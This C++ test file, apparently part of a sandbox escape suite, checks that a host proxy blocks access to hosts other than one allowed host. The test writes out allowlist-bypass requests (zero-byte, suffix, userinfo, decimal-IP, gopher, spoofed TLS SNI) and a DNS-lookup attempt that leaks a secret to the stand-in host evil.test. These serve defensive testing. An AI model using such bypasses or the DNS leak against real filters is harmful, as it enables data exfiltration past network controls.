// E73, E74: a box that may reach one host, and what it tries to reach another. The control is the
// same client asking for the host that is allowed, and the same sockets without a box.
#include <boost/asio/co_spawn.hpp>
#include <boost/asio/io_context.hpp>
#include <fstream>
#include <optional>

#include "tests/sandbox/escape/attempt.h"
#include "tests/sandbox/escape/fixture.h"
#include "tests/sandbox/escape/runner.h"
#include "tools/host_proxy.h"

namespace escape {
namespace {

namespace asio = base::asio;

struct Talk {
  std::string output;
  std::vector<tools::ProxyConnection> log;
};

// The box with the proxy, as the shell tool has it; `allowed` is a name of this machine's loopback.
Talk talk_through(const Fixture& fixture, const std::string& script) {
  Talk talk;
  asio::io_context io;
  tools::HostProxyOptions options;
  const std::string port = std::to_string(fixture.tcp_port());
  auto hosts = tools::HostList::parse({"allowed.test:" + port});
  if (!hosts) return talk;
  options.allowed = *hosts;
  options.tls_ports = {static_cast<std::uint16_t>(fixture.tcp_port())};
  options.refuse_own_ports = false;  // the listeners are this process's
  for (const char* name : {"allowed.test", "evil.test", "allowed.test.evil.test"})
    options.fixed_names.push_back(std::string(name) + ":" + port + ":127.0.0.1");
  options.log = [&talk](const tools::ProxyConnection& one) { talk.log.push_back(one); };
  tools::HostProxy proxy(io.get_executor(), std::move(options));

  sandbox::Policy policy;
  policy.workspace = fixture.workspace();
  policy.limits.wall_time = std::chrono::seconds(30);
  policy.network = sandbox::Network::proxy;
  sandbox::Command command;
  command.argv = {"/bin/sh", "-c", fixture.assignments() + script};
  const sandbox::NetworkDoor door = [&proxy](base::UniqueFd fd) { proxy.serve(std::move(fd)); };
  auto keep = [&](std::exception_ptr, base::Result<sandbox::Outcome> outcome) {
    talk.output = outcome ? outcome->output : outcome.error().message;
    proxy.stop();
  };
  asio::co_spawn(io, sandbox::run(policy, command, {}, door), keep);
  io.run();
  return talk;
}

std::string counted(const std::string& bytes, int size) {
  std::string out;
  for (int i = size - 1; i >= 0; --i) out += static_cast<char>(bytes.size() >> (8 * i) & 0xff);
  return out + bytes;
}

std::string tls_hello(const std::string& name) {
  const std::string entry = std::string(1, '\0') + counted(name, 2);
  const std::string extension = std::string("\0\0", 2) + counted(counted(entry, 2), 2);
  const std::string body = "\x03\x03" + std::string(32, 'r') + std::string(1, '\0') +
                           counted("\x13\x01", 2) + counted(std::string(1, '\0'), 1) +
                           counted(extension, 2);
  return "\x16\x03\x01" + counted("\x01" + counted(body, 3), 2);
}

std::string get(const std::string& target) {
  return "GET http://" + target + "/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n";
}
std::string connect_to(const std::string& target) {
  return "CONNECT " + target + " HTTP/1.1\r\n\r\n";
}

void not_on_the_list(Values& inside, Values& control) {
  Fixture fixture(Fixture::For::box);
  const std::string port = ":" + std::to_string(fixture.tcp_port());
  const std::pair<const char*, std::string> requests[] = {
      {"other", get("evil.test" + port)},
      {"by-address", get("127.0.0.1" + port)},
      {"by-number", get("2130706433" + port)},
      {"tunnel", connect_to("evil.test" + port)},
      {"zero-byte", connect_to(std::string("evil.test\0.allowed.test", 23) + port)},
      {"suffix", get("allowed.test.evil.test" + port)},
      {"user", get("allowed.test@evil.test" + port)},
      {"user-2", get("evil.test" + port + "@allowed.test" + port)},
      {"dot", get("allowed.test." + port)},
      {"upper", get("EVIL.TEST" + port)},
      {"other-port", get("allowed.test:1")},
      {"two-lines", "GET http://allowed.test" + port + "/ HTTP/1.1\nHost: x\r\n\r\n"},
      {"gopher", "GET gopher://allowed.test" + port + "/ HTTP/1.1\r\n\r\n"},
  };
  std::string script;
  for (const auto& [label, request] : requests) {
    std::ofstream(fixture.workspace() + "/r-" + label, std::ios::binary) << request;
    script += std::string("$p ") + label + " proxy-ask r-" + label + ";";
  }
  std::ofstream(fixture.workspace() + "/c", std::ios::binary) << connect_to("allowed.test" + port);
  std::ofstream(fixture.workspace() + "/evil", std::ios::binary) << tls_hello("evil.test");
  std::ofstream(fixture.workspace() + "/good", std::ios::binary) << tls_hello("allowed.test");
  std::ofstream(fixture.workspace() + "/g", std::ios::binary) << get("ALLOWED.test" + port);
  script += "$p sni proxy-ask c evil;";
  inside = values_in(talk_through(fixture, script).output);
  inside.push_back({"visitors", fixture.visitors() <= 1 ? "none" : "some"});  // c came, and no more
  const std::string direct =
      "$p direct tcp 127.0.0.1 $P; $p six tcp ::1 $P; $p udp udp 127.0.0.1 $U; $p unix "
      "abstract-socket $A; $p multipath socket 2 1 262";
  for (Value& value : values_in(talk_through(fixture, direct).output)) inside.push_back(value);

  const Values good = values_in(
      talk_through(fixture, "$p get proxy-ask g; $p tunnel proxy-ask c good").output);
  const bool works = good.size() == 2 && good[0].value == "OK" && good[1].value == "OK";
  for (const auto& [label, request] : requests) control.push_back({label, works ? "OK" : "failed"});
  control.push_back({"sni", works ? "OK" : "failed"});
  control.push_back({"visitors", fixture.visitors() >= 3 ? "some" : "none"});
  Fixture outside(Fixture::For::control);
  for (Value& value : values_in(run_control(outside, direct, Control::same_uid).output))
    control.push_back(value);
}

void names_that_tell(Values& inside, Values& control) {
  Fixture fixture(Fixture::For::box);
  const std::string secret = fixture.mark() + "-secret.evil.test";
  std::ofstream(fixture.workspace() + "/r", std::ios::binary) << connect_to(secret + ":443");
  const std::string script =
      "$p question proxy-ask r; if timeout 5 getent hosts " + secret +
      " >/dev/null 2>&1; then echo RESULT lookup OK; else echo RESULT lookup none; fi;"
      "$p server udp 127.0.0.1 $U; [ -e /etc/resolv.conf ] && echo RESULT resolver there || echo "
      "RESULT resolver none";
  const Talk talk = talk_through(fixture, script);
  inside = values_in(talk.output);
  bool told = false;
  for (const tools::ProxyConnection& one : talk.log)
    told = told || (one.target == secret + ":443" && one.address.empty() && !one.refusal.empty());
  inside.push_back({"log", told ? "refused" : "silent"});
  Fixture outside(Fixture::For::control);
  std::ofstream(fixture.workspace() + "/g", std::ios::binary)
      << get("allowed.test:" + std::to_string(fixture.tcp_port()));
  const Talk good = talk_through(fixture, "$p question proxy-ask g");
  control = values_in(good.output);
  control.push_back({"log", good.log.size() == 1 && good.log[0].refusal.empty() ? "OK" : "silent"});
  for (Value& value : values_in(run_control(outside,
                                            "getent hosts localhost >/dev/null && echo RESULT "
                                            "lookup OK; $p server udp 127.0.0.1 $U; [ -e "
                                            "/etc/resolv.conf ] && echo RESULT resolver there",
                                            Control::same_uid)
                                    .output))
    control.push_back(value);
}

}  // namespace

std::vector<Attempt> proxy_attempts() {
  return {
      {.id = "E73",
       .title = "one host is allowed: reach another",
       .held = {"EACCES", "EBADMSG", "ECONNRESET", "EPERM", "ECONNREFUSED", "none"},
       .bare = Bare::not_there,
       .custom = not_on_the_list},
      {.id = "E74",
       .title = "…speak through name look-ups",
       .held = {"EACCES", "EPERM", "none", "refused"},
       .bare = Bare::not_there,
       .custom = names_that_tell},
  };
}

}  // namespace escape
